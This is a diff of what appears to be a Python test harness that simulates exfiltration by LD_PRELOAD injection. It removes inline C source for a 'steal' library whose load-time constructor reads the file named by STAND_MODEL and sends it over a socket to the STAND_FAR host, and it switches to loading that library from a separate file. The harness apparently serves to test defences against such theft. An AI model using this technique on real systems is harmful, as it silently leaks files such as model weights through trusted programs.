@@ -4,6 +4,7 @@
 """
 
 import os
+import shutil
 import subprocess
 import sys
 import threading
@@ -114,36 +115,15 @@ def chained() -> None:
 
 def preloaded() -> None:
     """The program is an honest one; what it loads is not."""
-    source = os.path.join(stand.ROOM, "steal.c")
     library = os.path.join(stand.ROOM, "steal.so")
-    with open(source, "w") as file:
-        file.write(LIBRARY)
-    subprocess.run(["cc", "-shared", "-fPIC", "-o", library, source], check=True)
+    here = os.path.join(os.path.dirname(os.path.abspath(__file__)), "steal")
+    # A machine without a compiler has it made already.
+    if os.path.exists(f"{here}.so"):
+        shutil.copyfile(f"{here}.so", library)
+    else:
+        subprocess.run(["cc", "-shared", "-fPIC", "-o", library, f"{here}.c"], check=True)
     environment = {**os.environ, "LD_PRELOAD": library, "STAND_FAR": stand.FAR}
     subprocess.run(["/bin/sleep", "0"], check=True, env=environment)
-
-
-LIBRARY = r"""
-#include <arpa/inet.h>
-#include <fcntl.h>
-#include <stdio.h>
-#include <stdlib.h>
-#include <unistd.h>
-__attribute__((constructor)) static void steal(void) {
-    static char block[1 << 18];
-    struct sockaddr_in far = {AF_INET, htons(443)};
-    inet_pton(AF_INET, getenv("STAND_FAR"), &far.sin_addr);
-    int file = open(getenv("STAND_MODEL"), O_RDONLY), s = socket(AF_INET, SOCK_STREAM, 0);
-    if (connect(s, (void *)&far, sizeof far)) _exit(1);
-    long got, total = 0;
-    while ((got = read(file, block, sizeof block)) > 0)
-        for (long at = 0, n; at < got; at += n, total += n)
-            if ((n = write(s, block + at, got - at)) < 0) _exit(1);
-    close(s);
-    printf("{\"act\":\"sent\",\"pid\":%d,\"bytes\":%ld}\n", getpid(), total);
-    fflush(stdout);
-}
-"""
 
 
 def main() -> None:
